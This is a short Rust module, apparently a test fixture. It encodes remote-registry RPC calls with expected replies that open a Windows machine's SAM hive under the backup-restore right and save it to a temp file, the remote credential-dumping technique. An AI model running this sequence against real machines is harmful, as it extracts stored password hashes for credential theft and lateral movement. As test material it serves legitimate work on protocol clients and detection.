//! How a hive is taken from afar: its key is opened with the right to restore, and saved into a file.

use super::rpc::{Call, Stub};

pub(crate) fn hive_saved() -> [Call; 3] {
    const MAXIMUM_ALLOWED: u32 = 0x0200_0000;
    const REG_OPTION_BACKUP_RESTORE: u32 = 4;
    let (machine, sam) = ([1; 20], [2; 20]);
    let opened = |handle: &[u8]| Stub::default().raw(handle);
    let create = Stub::default().raw(&machine).string("SAM").string("");
    let create = create.u32(REG_OPTION_BACKUP_RESTORE).u32(MAXIMUM_ALLOWED).u32(0).u32(0);
    let save = Stub::default().raw(&sam).string("C:\\Windows\\Temp\\a.tmp").u32(0);
    [
        Call::new(2, Stub::default().u32(0).u32(MAXIMUM_ALLOWED), opened(&machine).u32(0)),
        Call::new(6, create, opened(&sam).u32(0).u32(0)),
        Call::new(20, save, Stub::default().u32(0)),
    ]
}
